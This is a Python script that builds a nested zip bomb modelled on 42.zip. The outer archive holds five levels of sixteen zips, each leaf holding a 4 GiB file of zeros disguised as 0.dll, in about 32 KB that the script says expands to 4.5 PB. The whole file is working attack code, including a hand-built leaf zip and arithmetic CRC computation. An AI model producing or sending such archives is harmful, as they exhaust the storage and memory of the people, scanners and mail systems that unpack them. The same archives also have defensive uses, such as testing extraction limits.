"""A nested zip bomb in the style of 42.zip (python3 standard library only).

usage: mk42zip.py OUT [LEVELS [FANOUT [LEAF_BYTES [NOTE]]]]
  defaults: 5 levels of 16 zips each, whose innermost zips each hold one
  file of 4294967295 zero bytes (0.dll), as in the 42.zip of 2001: about
  32 KB on disk, 16**5 = 1,048,576 leaves, 4.5 PB expanded.  NOTE, if
  given, is the text of a first member leeme.txt of the outermost zip.

Written in about a second: the leaf's deflate stream is one compressed
MiB of zeros repeated (after a full flush each MiB compresses to the same
bytes), its CRC-32 is computed arithmetically (zlib's crc32_combine), and
each level holds its fanout of copies of the same inner zip, which deflate
squeezes well.  Levels are named as in 42.zip: lib, book, chapter, doc,
page.
"""
import io, struct, sys, zipfile, zlib

out = sys.argv[1]
levels = int(sys.argv[2]) if len(sys.argv) > 2 else 5
fanout = int(sys.argv[3]) if len(sys.argv) > 3 else 16
leaf_bytes = int(sys.argv[4]) if len(sys.argv) > 4 else 0xFFFFFFFF
note = sys.argv[5] if len(sys.argv) > 5 else None
MIB = 1 << 20

# ---- CRC-32 of n zero bytes: zlib's crc32_combine over GF(2) matrices


def gf2_times(mat, vec):
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def gf2_square(mat):
    return [gf2_times(mat, mat[n]) for n in range(32)]


def crc32_zeros(n):
    """CRC-32 of n zero bytes (n > 0)."""
    odd = [0xEDB88320] + [1 << k for k in range(31)]  # one zero bit
    even = gf2_square(odd)  # two zero bits
    odd = gf2_square(even)  # four zero bits
    # n zero bytes through the register as it starts (all ones), then
    # the final inversion
    reg = 0xFFFFFFFF
    while True:
        even = gf2_square(odd)
        if n & 1:
            reg = gf2_times(even, reg)
        n >>= 1
        if not n:
            break
        odd = gf2_square(even)
        if n & 1:
            reg = gf2_times(odd, reg)
        n >>= 1
        if not n:
            break
    return reg ^ 0xFFFFFFFF


# ---- the leaf: one zip holding 0.dll, written by hand (precompressed data)


def deflate_zeros(n):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    full, rest = divmod(n, MIB)
    parts = [block] * full
    if rest:
        parts.append(c.compress(bytes(rest)))
    parts.append(c.flush(zlib.Z_FINISH))
    return b"".join(parts)


def leaf_zip(name, n):
    data = deflate_zeros(n)
    crc = crc32_zeros(n) if n else 0
    fname = name.encode()
    # DOS time 2001-07-01 00:00
    dtime, ddate = 0, ((2001 - 1980) << 9) | (7 << 5) | 1
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dtime, ddate, crc, len(data), n,
                        len(fname), 0) + fname
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dtime, ddate, crc,
                          len(data), n, len(fname), 0, 0, 0, 0, 0, 0) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    return local + data + central + end


def zip_of(names, inner, note=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        if note is not None:
            z.writestr(zipfile.ZipInfo("leeme.txt", date_time=(2001, 7, 1, 0, 0, 0)),
                       note.encode("utf-8"))
        for name in names:
            zi = zipfile.ZipInfo(name, date_time=(2001, 7, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, inner)
    return buf.getvalue()


names = ["lib", "book", "chapter", "doc", "page"]
data = leaf_zip("0.dll", leaf_bytes)
for level in range(levels - 1, -1, -1):
    prefix = names[level] if level < len(names) else "level%d_" % level
    members = ["%s%x.zip" % (prefix, k) for k in range(fanout)]
    data = zip_of(members, data, note if level == 0 else None)
open(out, "wb").write(data)
